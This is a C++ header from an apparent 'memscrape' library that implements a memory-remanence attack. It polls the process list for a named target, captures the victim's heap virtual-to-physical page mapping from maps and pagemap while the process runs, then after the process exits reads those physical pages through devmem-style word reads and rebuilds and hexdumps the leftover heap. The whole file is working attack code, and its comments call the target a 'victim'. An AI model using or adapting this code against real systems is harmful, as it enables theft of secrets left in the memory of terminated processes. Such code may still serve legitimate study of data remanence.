#pragma once

#include <algorithm>
#include <cstdint>
#include <functional>
#include <span>
#include <sstream>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "memscrape/error.hpp"
#include "memscrape/pagemap.hpp"
#include "memscrape/util.hpp"

namespace memscrape {

/// The victim's heap translation, captured while it was still running.
struct CaptureMap {
  int pid = 0;
  std::uint64_t heap_va_start = 0;
  std::uint64_t heap_va_end = 0;
  // (va_page, pa_page), consecutive va pages covering the heap.
  std::vector<std::pair<std::uint64_t, std::uint64_t>> pairs;
};

/// Post-termination capture: the heap image reassembled in VA order from
/// physical reads, plus its rendered hexdump.
struct ResidueDump {
  int pid = 0;
  Bytes bytes;
  CaptureMap source_pairs;
  std::string hexdump;
};

/// One call = one poll attempt against the process listing.
using ListingSource = std::function<std::string()>;
using WordReader = std::function<std::uint32_t(std::uint64_t)>;

namespace detail {

struct ListingEntry {
  int pid;
  std::string cmd;
};

inline std::vector<ListingEntry> parse_listing(std::string_view text) {
  std::vector<ListingEntry> out;
  std::istringstream in{std::string(text)};
  std::string line;
  while (std::getline(in, line)) {
    std::istringstream ls(line);
    long pid;
    std::string ppid, stime;
    if (!(ls >> pid >> ppid >> stime)) continue;
    std::string cmd;
    std::getline(ls, cmd);
    if (!cmd.empty() && cmd.front() == ' ') cmd.erase(0, 1);
    out.push_back({static_cast<int>(pid), cmd});
  }
  return out;
}

}  // namespace detail

/// Step 1: poll the listing until a process whose CMD contains `pattern`
/// shows up. Earliest-listed pid wins a tie.
inline int poll_for_pid(const ListingSource& listing, std::string_view pattern,
                        int budget = 1000) {
  if (pattern.empty()) raise(Errc::InvalidArgument, "empty poll pattern");
  for (int attempt = 0; attempt < budget; ++attempt) {
    for (const auto& entry : detail::parse_listing(listing())) {
      if (entry.cmd.find(pattern) != std::string::npos) return entry.pid;
    }
  }
  raise(Errc::NotFound, "no process matching '" + std::string(pattern) +
                            "' after " + std::to_string(budget) + " attempts");
}

/// Step 2: convert every heap page of the maps/pagemap pair into a
/// (va_page, pa_page) list. Any hole means the attacker must retry while
/// the victim still runs.
inline CaptureMap capture_address_map(std::string_view maps_text,
                                      std::span<const std::uint8_t> pagemap_bytes,
                                      std::uint64_t page_size, int pid) {
  auto records = parse_maps(maps_text, page_size);
  auto [heap_start, heap_end] = heap_range(records);

  CaptureMap cap;
  cap.pid = pid;
  cap.heap_va_start = heap_start;
  cap.heap_va_end = heap_end;

  const std::uint64_t vpn_base = heap_start / page_size;
  const std::uint64_t pages = (heap_end - heap_start) / page_size;
  for (std::uint64_t i = 0; i < pages; ++i) {
    const std::uint64_t vpn = vpn_base + i;
    if ((i + 1) * 8 > pagemap_bytes.size()) {
      raise(Errc::IncompleteTranslation,
            "pagemap does not cover vpn 0x" + to_hex(vpn), vpn);
    }
    std::uint64_t raw = 0;
    for (int b = 7; b >= 0; --b) {
      raw = (raw << 8) | pagemap_bytes[i * 8 + static_cast<std::uint64_t>(b)];
    }
    PagemapEntry e = decode_entry(raw);
    if (!e.present || e.swapped) {
      raise(Errc::IncompleteTranslation,
            "vpn 0x" + to_hex(vpn) + (e.swapped ? " swapped" : " not present"),
            vpn);
    }
    cap.pairs.emplace_back(heap_start + i * page_size, e.pfn * page_size);
  }
  return cap;
}

/// Step 3 precondition: the victim is gone from the listing.
inline void await_termination(const ListingSource& listing, int pid,
                              int budget = 1000) {
  for (int attempt = 0; attempt < budget; ++attempt) {
    bool present = false;
    for (const auto& entry : detail::parse_listing(listing())) {
      if (entry.pid == pid) {
        present = true;
        break;
      }
    }
    if (!present) return;
  }
  raise(Errc::StillRunning, "pid " + std::to_string(pid) + " still listed after " +
                                std::to_string(budget) + " attempts");
}

/// Rows of 16 bytes: eight 4-digit hex groups (two bytes each, in storage
/// order), two spaces, then a 16-char printable-ASCII column. A short final
/// row keeps its hex groups unpadded; only the ASCII column is padded.
inline std::string hexdump(std::span<const std::uint8_t> bytes) {
  static const char* kHex = "0123456789abcdef";
  std::string out;
  out.reserve(bytes.size() / 16 * 76 + 80);
  for (std::size_t row = 0; row < bytes.size(); row += 16) {
    const std::size_t n = std::min<std::size_t>(16, bytes.size() - row);
    for (std::size_t j = 0; j < n; j += 2) {
      if (j) out += ' ';
      out += kHex[bytes[row + j] >> 4];
      out += kHex[bytes[row + j] & 0xF];
      if (j + 1 < n) {
        out += kHex[bytes[row + j + 1] >> 4];
        out += kHex[bytes[row + j + 1] & 0xF];
      }
    }
    out += "  ";
    for (std::size_t j = 0; j < 16; ++j) {
      if (j < n) {
        std::uint8_t b = bytes[row + j];
        out += (b >= 0x20 && b <= 0x7E) ? static_cast<char>(b) : '.';
      } else {
        out += ' ';
      }
    }
    out += '\n';
  }
  return out;
}

/// Step 3: read every captured physical page word by word (devmem
/// semantics) and reassemble the heap image in VA order.
inline ResidueDump extract_residue(const WordReader& read_word,
                                   const CaptureMap& cap,
                                   std::uint64_t page_size) {
  ResidueDump dump;
  dump.pid = cap.pid;
  dump.source_pairs = cap;
  dump.bytes.reserve(cap.pairs.size() * page_size);
  for (const auto& [va, pa] : cap.pairs) {
    for (std::uint64_t off = 0; off < page_size; off += 4) {
      std::uint32_t w = read_word(pa + off);
      dump.bytes.push_back(static_cast<std::uint8_t>(w));
      dump.bytes.push_back(static_cast<std::uint8_t>(w >> 8));
      dump.bytes.push_back(static_cast<std::uint8_t>(w >> 16));
      dump.bytes.push_back(static_cast<std::uint8_t>(w >> 24));
    }
  }
  dump.hexdump = hexdump(dump.bytes);
  return dump;
}

}  // namespace memscrape
